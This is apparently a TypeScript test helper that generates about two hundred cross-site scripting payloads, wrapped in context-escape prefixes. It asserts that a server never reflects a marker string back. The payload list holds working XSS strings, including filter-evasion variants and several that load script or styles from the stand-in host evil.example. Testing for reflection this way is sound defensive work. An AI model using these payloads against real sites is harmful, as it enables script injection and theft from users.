import type { Answer } from './http.ts'
import type { Scene } from './scene.ts'

/** In every string, so that one is found again however it was escaped on the way. */
const mark = 'vo19'

const run = `alert('${mark}')`

/** What makes a script run, each in the place where it would land. */
const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt src=//evil.example/${mark}></sCrIpT>`,
  `<script/x>${run}</script >`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=\`x\` onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext></table><mglyph><style><img src onerror=${run}>`,
  `<body onload=${run}>`,
  `<iframe srcdoc="<script>${run}</script>">`,
  `<iframe src=javascript:${run}>`,
  `<a href="javascript:${run}">${mark}</a>`,
  `<a href="java&#115;cript:${run}">${mark}</a>`,
  `<form action=javascript:${run}><button>${mark}`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<object data=javascript:${run}>`,
  `<base href=//evil.example/${mark}/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href=//evil.example/${mark}>`,
  `<style>*{background:url(//evil.example/${mark})}</style>`,
  `<noscript><p title="</noscript><img src onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `{{constructor.constructor("${run}")()}}`,
  `\${${run}}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `%3Cscript%3E${run}%3C/script%3E`,
]

/** How one gets out of the place where one landed: text, attributes, a comment, a title, a style, a script. */
const exits: readonly string[] = ['', '">', "'>", '-->', '</title>', '</style></script>']

/** About two hundred strings, visible ASCII. */
export const markup: readonly string[] = exits.flatMap((exit) => payloads.map((payload) => `${exit}${payload}`))

/** Every `every`-th of them, from the `from`-th on; the places they are tried in share them. */
export const someMarkup = (from: number, every: number): readonly string[] =>
  markup.filter((_, index) => index % every === from)

/** Nothing of what was sent may come back, neither as it was nor escaped. */
export const nothingReflected = ({ wrong }: Scene, sent: string, answer: Answer): Answer => {
  if (JSON.stringify(answer).toLowerCase().includes(mark)) wrong(`comes back: ${sent}`)
  return answer
}

/** For an address. */
export const escaped = (text: string): string =>
  encodeURIComponent(text).replace(/[!'()*]/g, (character) => `%${character.charCodeAt(0).toString(16).toUpperCase()}`)
